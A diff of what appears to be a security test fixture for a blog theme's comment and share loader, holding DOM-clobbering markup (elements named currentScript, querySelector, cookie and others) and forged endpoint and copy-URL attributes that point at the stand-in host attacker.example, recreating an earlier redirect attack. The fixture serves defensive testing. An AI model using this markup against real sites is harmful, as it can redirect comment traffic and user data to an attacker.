@@ -28,15 +28,15 @@ ATTACKER = "attacker.example"
 EVIL = f"https://{ATTACKER}/"
 # Markup that once steered or broke the loader, and forgeries of what it acts on.
 CLOBBER = f"""
-<image name="currentScript" data-comments-endpoint="{EVIL}" src="../../theme/images/icon.svg">
-<img name="querySelectorAll" src="../../theme/images/icon.svg" alt="">
-<img name="querySelector" src="../../theme/images/icon.svg" alt="">
-<img name="getElementById" src="../../theme/images/icon.svg" alt="">
-<img name="createElement" src="../../theme/images/icon.svg" alt="">
-<img name="baseURI" src="../../theme/images/icon.svg" alt="">
+<image name="currentScript" data-comments-endpoint="{EVIL}" alt="">
+<img name="querySelectorAll" alt="">
+<img name="querySelector" alt="">
+<img name="getElementById" alt="">
+<img name="createElement" alt="">
+<img name="baseURI" alt="">
 <form name="body"><input name="append"></form>
 <form name="head"></form>
-<img name="cookie" src="../../theme/images/icon.svg" alt="">
+<img name="cookie" alt="">
 
 <p><span data-copy-url="{EVIL}">stray copy data</span>
 <a class="share__link--copy" href="{EVIL}" data-copy-url="{EVIL}">Link kopieren</a></p>
@@ -64,7 +64,7 @@ data-load-global='{{"__pwned": 1}}'></div>
 Schluss mit Wort Klobberwort.
 """
 # The attack of issue 12 alone: the old loader read its endpoint from document.currentScript.
-REDIRECT = f"""<image name="currentScript" data-comments-endpoint="{EVIL}">
+REDIRECT = f"""<image name="currentScript" data-comments-endpoint="{EVIL}" alt="">
 
 Ein Text."""
 # An earlier #isso-thread than the theme's, naming another thread and endpoint.
